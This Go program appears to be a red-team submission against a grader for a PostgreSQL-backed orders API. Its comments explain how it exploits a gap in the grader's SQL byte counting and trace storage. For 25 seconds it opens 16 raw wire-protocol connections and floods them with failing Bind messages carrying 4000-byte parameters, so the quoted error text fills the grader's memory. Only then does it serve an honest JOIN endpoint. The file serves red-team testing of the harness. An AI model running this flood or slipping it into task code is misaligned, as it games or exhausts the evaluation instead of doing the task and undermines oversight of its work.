// Red team round 5: the grader's memory, filled before the first request.
//
// The trace keeps every statement of the grade, with up to 4 KiB of its
// error message. Statements sent before the first request count for no
// request, and nothing bounds how many there are: a Bind parameter the
// server quotes in its error costs the client no SQL bytes (MaxSQL counts
// Query and Parse only). For 25 s of its 30 s to start, this program runs
// `SELECT $1::int` with a 4000-byte parameter on 16 connections, each
// failing with the parameter quoted, then serves an honest JOIN.
package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/jackc/pgx/v5"
)

var addr = net.JoinHostPort(os.Getenv("PGHOST"), os.Getenv("PGPORT"))

func msg(typ byte, body []byte) []byte {
	b := []byte{typ, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(b[1:], uint32(len(body)+4))
	return append(b, body...)
}

func readMsg(r *bufio.Reader) (byte, []byte, error) {
	var hdr [5]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return 0, nil, err
	}
	n := int(binary.BigEndian.Uint32(hdr[1:])) - 4
	b := make([]byte, n)
	_, err := io.ReadFull(r, b)
	return hdr[0], b, err
}

func connect() (net.Conn, *bufio.Reader, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, nil, err
	}
	var p []byte
	p = binary.BigEndian.AppendUint32(p, 0)
	p = binary.BigEndian.AppendUint32(p, 196608)
	for _, kv := range []string{"user", os.Getenv("PGUSER"), "database", os.Getenv("PGDATABASE")} {
		p = append(append(p, kv...), 0)
	}
	p = append(p, 0)
	binary.BigEndian.PutUint32(p, uint32(len(p)))
	c.Write(p)
	r := bufio.NewReaderSize(c, 64<<10)
	for {
		t, b, err := readMsg(r)
		if err != nil {
			c.Close()
			return nil, nil, err
		}
		switch t {
		case 'R':
			if binary.BigEndian.Uint32(b) == 3 {
				c.Write(msg('p', append([]byte(os.Getenv("PGPASSWORD")), 0)))
			}
		case 'E':
			c.Close()
			return nil, nil, fmt.Errorf("connect: %q", b)
		case 'Z':
			return c, r, nil
		}
	}
}

var failed atomic.Int64

func flood(until time.Time) {
	c, r, err := connect()
	if err != nil {
		panic(err)
	}
	defer c.Close()
	c.Write(msg('P', []byte("f\x00SELECT $1::int\x00\x00\x00")))
	c.Write(msg('S', nil))
	value := strings.Repeat("x", 4000)
	var bind []byte
	bind = append(bind, 0)          // portal ""
	bind = append(bind, "f\x00"...) // statement f
	bind = append(bind, 0, 0, 0, 1) // no formats, one parameter
	bind = binary.BigEndian.AppendUint32(bind, uint32(len(value)))
	bind = append(bind, value...)
	bind = append(bind, 0, 0)
	var batch []byte
	for i := 0; i < 50; i++ {
		batch = append(batch, msg('B', bind)...)
		batch = append(batch, msg('E', []byte{0, 0, 0, 0, 0})...)
		batch = append(batch, msg('S', nil)...)
	}
	ready := 1 // the Parse's Sync
	for time.Now().Before(until) {
		c.Write(batch)
		ready += 50
		for ready > 0 {
			t, _, err := readMsg(r)
			if err != nil {
				panic(err)
			}
			switch t {
			case 'E':
				failed.Add(1)
			case 'Z':
				ready--
			}
		}
	}
}

type user struct {
	ID    int    `json:"id"`
	Name  string `json:"name"`
	Email string `json:"email"`
}

type order struct {
	ID      int    `json:"id"`
	Product string `json:"product"`
	User    user   `json:"user"`
}

func main() {
	until := time.Now().Add(25 * time.Second)
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() { defer wg.Done(); flood(until) }()
	}
	wg.Wait()
	fmt.Printf("errorflood: %d failed statements before listening\n", failed.Load())
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, os.Getenv("DATABASE_URL"))
	if err != nil {
		panic(err)
	}
	var mu sync.Mutex
	http.HandleFunc("/api/orders", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		rows, err := conn.Query(ctx, "SELECT o.id, o.product, u.id, u.name, u.email FROM orders o JOIN users u ON u.id = o.user_id ORDER BY o.id")
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		out := []order{}
		for rows.Next() {
			var o order
			rows.Scan(&o.ID, &o.Product, &o.User.ID, &o.User.Name, &o.User.Email)
			out = append(out, o)
		}
		rows.Close()
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(out)
	})
	panic(http.ListenAndServe("127.0.0.1:"+os.Getenv("PORT"), nil))
}
